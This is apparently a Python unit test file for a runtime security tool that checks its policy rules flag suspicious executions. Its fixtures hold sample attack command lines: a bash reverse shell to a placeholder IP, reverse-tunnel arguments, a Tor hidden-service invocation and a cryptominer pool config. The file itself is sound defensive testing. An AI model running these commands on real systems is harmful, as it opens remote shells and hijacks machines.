from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from killswitch.config import SHIPPED_POLICIES
from killswitch.events import Done, Exec
from killswitch.facts import Facts
from killswitch.policy import foregone, matcher
from killswitch.policy.clauses import All, Bit, Const, Formula, Inverse, Opaque, Some, opaque
from killswitch.policy.compile import compile_policies
from killswitch.policy.compiled import Compiled
from killswitch.policy.fields import INSPECTED, values_of
from killswitch.policy.foregone import MAX_FACTS, MAX_PROGRAMS, Foregone
from killswitch.policy.load import load_files
from killswitch.policy.model import Predicate
from tests.unit.policy.formula_reference import holds
from tests.unit.policy.test_clauses import FORMULAS

EXEC = Exec(
    time_ns=1, workload=7, cgroup_id=7, pid=100, start_ticks=5, ppid=50, parent_start_ticks=1, uid=0, gid=0,
    parent_name=b"sh", executable=b"/usr/bin/true", filename=b"/bin/true", argv=b"true\0", argv_total=5, inode=9, device=8,
    nlink=1, memfd=False, predicates=0, generation=0, clause=-1, done=Done.NOTHING, verdict_ns=0,
)  # fmt: skip
EXECUTABLES = [
    b"/usr/bin/true",
    b"/usr/bin/tor",
    b"/tmp/chisel",
    b"/opt/qemu-aarch64-static",
    b"/bin/bash",
    b"/x/wstunnel-2",
]
ARGV = [
    b"true\0",
    b"tor\0--HiddenServicePort\x0080 127.0.0.1:8080\0",
    b"x\0client\0-R\0tcp://0:8080:localhost:80\0wss://host.example:443\0",
    b"x\0-o\0pool.example.org:3333\0-u\x0044AFFq5kSiGBoZ\0-a\0rx/0\0",
    b"x\0client\0host.example:8080\0R:80:localhost:80\0",
    b"bash\0-c\0bash -i >& /dev/tcp/192.0.2.1/443 0>&1\0",
    b"x\0--help\0",
]
CONTENT = b'{"pools": [{"url": "stratum+tcp://pool.example.org:3333", "user": "44AFFq5kSiGBoZ"}], "algo": "rx/0"}'
TEXTS = st.sampled_from([(), (b"nothing",), (CONTENT,)])


@pytest.fixture(scope="module")
def compiled() -> Compiled:
    return compile_policies(load_files(sorted(SHIPPED_POLICIES.glob("*.yaml"))))


@st.composite
def facts(draw: st.DrawFn, programs: tuple[str, ...]) -> Facts:
    return Facts(
        programs=tuple(draw(st.lists(st.sampled_from(programs), max_size=2, unique=True))),
        sha256=draw(st.sampled_from(["", "ab" * 32])),
        config_unread=draw(st.sampled_from(["", "a pipe"])),
        config=draw(TEXTS),
        named_files=draw(TEXTS),
        environment=draw(TEXTS),
    )


@settings(max_examples=100, deadline=None)
@given(FORMULAS, st.sets(st.integers(0, 1)))
def test_what_is_left_means_the_same(formula: Formula, known: set[int]) -> None:
    for truths in range(4):

        def judge(predicate: Predicate, truths: int = truths) -> bool:
            return bool(truths >> int(predicate.values[0]) & 1)

        left = foregone.given(formula, lambda p, judge=judge: judge(p) if p.values[0] in known else None)  # type: ignore[misc]
        assert not {one.predicate.values[0] for one in opaque(left)} & known
        for bits in (0, 1, 6, 31):
            assert holds(left, bits, judge) == holds(formula, bits, judge)


@settings(max_examples=100, deadline=None)
@given(data=st.data())
def test_the_same_rules_match_as_when_each_is_asked_whole(compiled: Compiled, data: st.DataObject) -> None:
    programs = tuple(program.name for program in compiled.recogniser.programs)
    found = data.draw(facts(programs))
    name, asked = (data.draw(st.sampled_from(EXECUTABLES)) for _ in range(2))
    argv = data.draw(st.sampled_from(ARGV))
    event = replace(EXEC, executable=name, filename=asked, argv=argv, argv_total=len(argv))
    event = replace(event, predicates=compiled.predicates(event), generation=compiled.generation)
    values = foregone.values_of(found)
    meant = []
    for rule, program in zip(compiled.rules, compiled.programs, strict=True):
        if rule.rule.on == "exec" and rule.fields & INSPECTED:
            assert program.formula is not None
            by_bits = any(term.holds(event.predicates) for term in program.terms)

            def judge(predicate: Predicate) -> bool:
                return matcher.judge(predicate, values_of(predicate.field, event, values))

            if by_bits and holds(program.formula, event.predicates, judge):
                meant.append(rule.rule.id)
    for _ in range(3):  # a program that has come before is judged by less
        matched = compiled.later(event, (1 << len(compiled.policies)) - 1, found)
        assert [one.rule.id for one in matched if one.fields & INSPECTED] == meant


def test_the_rules_are_such_that_some_match(compiled: Compiled) -> None:
    policies = (1 << len(compiled.policies)) - 1
    tor = replace(EXEC, executable=EXECUTABLES[1], argv=ARGV[1], argv_total=len(ARGV[1]))
    assert "tunnel-hidden-service" in {one.rule.id for one in compiled.later(tor, policies, Facts())}
    miner = replace(EXEC, executable=b"/tmp/a", argv=b"a\0-c\0config.json\0", argv_total=19)
    assert "miner-config" in {one.rule.id for one in compiled.later(miner, policies, Facts(config=(CONTENT,)))}
    # The same program again, of which something else was found out, and one of the same facts with another name.
    assert "miner-config" not in {one.rule.id for one in compiled.later(miner, policies, Facts())}
    assert not compiled.later(replace(tor, executable=b"/tmp/a", filename=b"/tmp/a"), policies, Facts())


def test_what_a_workload_calls_its_programs_does_not_fill_the_daemon(compiled: Compiled) -> None:
    later = Foregone(
        (r, p) for r, p in zip(compiled.rules, compiled.programs, strict=True) if r.fields & INSPECTED
    )  # fmt: skip
    for number in range(MAX_PROGRAMS + 40):
        later.left(replace(EXEC, executable=b"/tmp/%d" % number), Facts())
        assert len(later._by_program) <= MAX_PROGRAMS
    for number in range(MAX_FACTS + 4):
        later.left(EXEC, Facts(programs=(f"p{number}",)))
        assert len(later._by_facts) <= MAX_FACTS
    kept = len(later._by_program)
    long = replace(EXEC, executable=b"/" + b"a" * 4000)
    assert later.left(long, Facts()) == later.left(long, Facts())
    assert len(later._by_program) == kept
    once, again = (later.left(EXEC, Facts()) for _ in range(2))
    assert {r.rule.id for r, _, _ in again} < {r.rule.id for r, _, _ in once}


def test_what_is_known_decides_as_far_as_it_goes() -> None:
    yes, no, open_ = (Opaque(Predicate("file.program", "match", (word,)), "") for word in ("yes", "no", "open"))

    def left(formula: Formula) -> Formula:
        return foregone.given(formula, {yes.predicate: True, no.predicate: False}.get)

    assert left(All((yes, Inverse(no)))) == Const(True)
    assert left(All((open_, no))) == Const(False)
    assert left(Some((open_, yes))) == Const(True)
    assert left(Some((All((yes, open_)), no))) == open_
    assert left(Inverse(All((open_, yes)))) == Inverse(open_)
    assert left(Some((All((open_, Bit(4))), no))) == All((open_, Bit(4)))
